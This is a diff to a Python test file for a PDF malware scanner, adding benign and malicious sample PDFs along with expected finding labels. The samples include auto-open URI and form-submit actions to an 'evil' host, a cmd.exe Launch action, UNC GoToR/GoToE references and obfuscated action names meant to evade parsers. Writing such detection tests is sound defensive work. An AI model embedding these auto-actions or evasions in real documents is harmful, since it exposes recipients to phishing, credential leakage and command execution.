@@ -15,12 +15,13 @@ def stream(content: bytes, header: bytes = b"", *, deflate: bool = True) -> byte
     return b"<</Length %d%b%b>>\nstream\n%b\nendstream" % (len(body), filtered, header, body)
 
 
-def object_stream(objects: dict[int, bytes], *, header: bytes = b"", deflate: bool = True) -> bytes:
+def object_stream(objects: dict[int, bytes], *, header: bytes = b"", deflate: bool = True, index: bytes = b"") -> bytes:
+    """`index`: what stands before the numbers."""
     offsets, body = [], b""
     for number, content in objects.items():
         offsets.append(b"%d %d" % (number, len(body)))
         body += content + b" "
-    index = b" ".join(offsets) + b" "
+    index += b" ".join(offsets) + b" "
     return stream(index + body, b"/Type/ObjStm/N %d/First %d%b" % (len(objects), len(index), header), deflate=deflate)
 
 
@@ -58,6 +59,13 @@ BENIGN: dict[str, bytes] = {
         b"/OpenAction 9 0 R", object_stream({9: b"<</S/GoTo/D[3 0 R/Fit]>>", 10: b"<</A<</S/URI/URI(https://x)>>>>"})
     ),
     "has links": document(b"", b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://vet.example/launch)>>>>"),
+    "opens by GoTo from an object stream": document(
+        b"/OpenAction%c\n9 0 R", object_stream({8: b"[]", 9: b"<</Type/Action/S/GoTo/D[3 0 R/Fit]>>"})
+    ),
+    "opens at its first page": document(b"/OpenAction<</S/Named/N/FirstPage>>"),
+    "has no actions of its page": document(b"", b"<</Type/Page/AA<< >>/B<</S/S/W 1>>/A<</S/URI/URI(https://x)>>>>"),
+    "has a hint stream": document(b"", stream(b"x", b"/S 36/I 88")),
+    "is tagged": document(b"", b"<</S/P/P 7 0 R/K[0 1]>>", b"<</S/Transparency/CS/DeviceRGB>>"),
     "has a form": document(b"/AcroForm<</Fields[5 0 R]>>", b"<</FT/Tx/T(Name)/V(Minka)>>"),
     "has metadata": document(b"/Metadata 5 0 R", stream(XMP, b"/Type/Metadata/Subtype/XML", deflate=False)),
     "has object streams": document(b"", object_stream({7: b"<</Type/Font/BaseFont/Helvetica>>", 8: b"[1 2 3]"})),
@@ -114,22 +122,25 @@ JAVASCRIPTS: dict[str, bytes] = {
 OTHERS: dict[str, tuple[str, bytes]] = {
     "launch": ("pdf_launch", document(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
     "launch in an object stream": ("pdf_launch", document(b"", object_stream({9: b"<</S/L#61unch/Win<<>>>>"}))),
-    "opens a page of the web": ("pdf_open_action", document(b"/OpenAction<</S/URI/URI(https://evil)>>")),
-    "opens a page by reference": ("pdf_open_action", document(b"/OpenAction 5 0 R", b"<</S /URI/URI(https://evil)>>")),
+    "opens a page of the web": ("pdf_acts_by_itself", document(b"/OpenAction<</S/URI/URI(https://evil)>>")),
+    "opens a page by reference": (
+        "pdf_acts_by_itself",
+        document(b"/OpenAction 5 0 R", b"<</S /URI/URI(https://evil)>>"),
+    ),
     "opens one from an object stream": (
-        "pdf_open_action",
+        "pdf_acts_by_itself",
         document(b"/OpenAction 9 0 R", object_stream({8: b"[]", 9: b"<</S\n/URI/URI(https://evil)>>"})),
     ),
     "opens one behind a false stream": (
-        "pdf_open_action",
+        "pdf_acts_by_itself",
         document(b"/X(9 0 obj<<>>stream\n)/OpenAction<</S/URI/URI(https://evil)>>"),
     ),
     "opens one behind brackets in a text and a comment": (
-        "pdf_open_action",
+        "pdf_acts_by_itself",
         document(b"/OpenAction<</X(>>\\)(>>))%>>\n/S/URI/URI(https://evil)>>"),
     ),
-    "sends a form": ("pdf_open_action", document(b"/Open#41ction<</S/SubmitForm/F(https://evil)>>")),
-    "opens by an action that nobody finds": ("pdf_open_action", document(b"/OpenAction 77 0 R")),
+    "sends a form": ("pdf_reaches_out", document(b"/Open#41ction<</S/SubmitForm/F(https://evil)>>")),
+    "opens by an action that nobody finds": ("pdf_acts_by_itself", document(b"/OpenAction 77 0 R")),
     "a file inside": ("pdf_embedded_file", document(b"/Names<</EmbeddedFiles 5 0 R>>", b"<<>>")),
     "a file inside, only": ("pdf_embedded_file", document(b"", stream(b"MZ", b"/Type/EmbeddedFile"))),
     "a file inside, in an object stream": (
@@ -170,10 +181,52 @@ OTHERS: dict[str, tuple[str, bytes]] = {
         "pdf_too_complex",
         document(b"", object_stream({9: JAVASCRIPT}, header=b"/DecodeParms<</Predictor 12/Columns 4>>")),
     ),
+    "objects that lie somewhere else": ("pdf_too_complex", document(b"", object_stream({9: b""}, header=b"/F(x)"))),
     "a bomb of objects": ("pdf_too_complex", document(b"", object_stream({9: b" " * 100_000_000}))),
     "an object behind too much": (
         "pdf_too_complex",
         document(b"", object_stream({9: b""}).replace(b">>\nstream", b"%" + b"x" * 1_100_000 + b"\n>>stream", 1)),
     ),
-    "a crowd of actions": ("pdf_too_complex", document(b"/OpenAction 3 0 R" * 200)),
+}
+
+_WEB = b"<</S/URI/URI(https://evil)>>"
+_PLACE = b"<</S/GoTo/D[3 0 R/Fit]"
+# What happens without a click, in ways that a reader understands and a hasty look does not.
+ACTING: dict[str, tuple[str, bytes]] = {
+    "a page that opens the web": ("pdf_acts_by_itself", document(b"", b"<</Type/Page/AA<</O" + _WEB + b">>>>")),
+    "a page with actions elsewhere": ("pdf_acts_by_itself", document(b"", b"<</Type/Page/A#41%x\n6%y\n0 R>>")),
+    "a link that is entered": ("pdf_acts_by_itself", document(b"", b"<</Subtype/Link/AA <</E" + _WEB + b">>>>")),
+    "a page that asks another computer": (
+        "pdf_reaches_out",
+        document(b"", b"<</Type/Page/AA<</O<</S/GoToR/F(\\\\evil\\x)/D[0]>>>>>>"),
+    ),
+    "a document inside another one": ("pdf_reaches_out", document(b"", b"<</S%x\n/GoToE/F(\\\\evil\\x)>>")),
+    "data from a file": ("pdf_reaches_out", document(b"/AA<</WC<</S/ImportData/F(x.fdf)>>>>")),
+    "a page of the web after a place": (
+        "pdf_acts_by_itself",
+        document(b"/OpenAction" + _PLACE + b"/Next 5 0 R>>", _WEB),
+    ),
+    "a second kind": ("pdf_acts_by_itself", document(b"/OpenAction" + _PLACE + b"/#53/URI/URI(https://evil)>>")),
+    "a kind behind a text": (
+        "pdf_acts_by_itself",
+        document(b"/OpenAction<</X(/S/GoTo " + b"x" * 2000 + b")/S/URI/URI(https://evil)>>"),
+    ),
+    "a kind behind a comment": ("pdf_acts_by_itself", document(b"/OpenAction<</S%c\n/URI/URI(https://evil)>>")),
+    "a kind that stands elsewhere": ("pdf_acts_by_itself", document(b"/OpenAction<</S 5 0 R/URI(x)>>", b"/URI")),
+    "a click of a kind that stands elsewhere": (
+        "pdf_too_complex",
+        document(b"", b"<</A<</S%c\n6\x00 0 R>>>>", b"/Launch"),
+    ),
+    "an object behind a comment, beside a harmless one": (
+        "pdf_acts_by_itself",
+        document(b"/OpenAction 77 0 R", b"77 0 obj" + _PLACE + b">>endobj 77%x\n0%y\nobj" + _WEB),
+    ),
+    "an object with a comment in its index": (
+        "pdf_too_complex",
+        document(b"/OpenAction 9 0 R", object_stream({9: _WEB}, index=b"%c\n")),
+    ),
+    "a form with scripts behind a comment": ("pdf_script_form", document(b"/AcroForm<</XFA%c\n5 0 R>>")),
+    "a form with scripts, named in hex": ("pdf_script_form", document(b"/AcroForm<</XFA[%c\n<61>5 0 R]>>")),
+    "a crowd of actions": ("pdf_acts_by_itself", document(b"/OpenAction 3 0 R" * 200)),
+    "a model that brings scripts": ("pdf_javascript", document(b"", b"<</Type/3D/OnInstantiate 6 0 R>>")),
 }
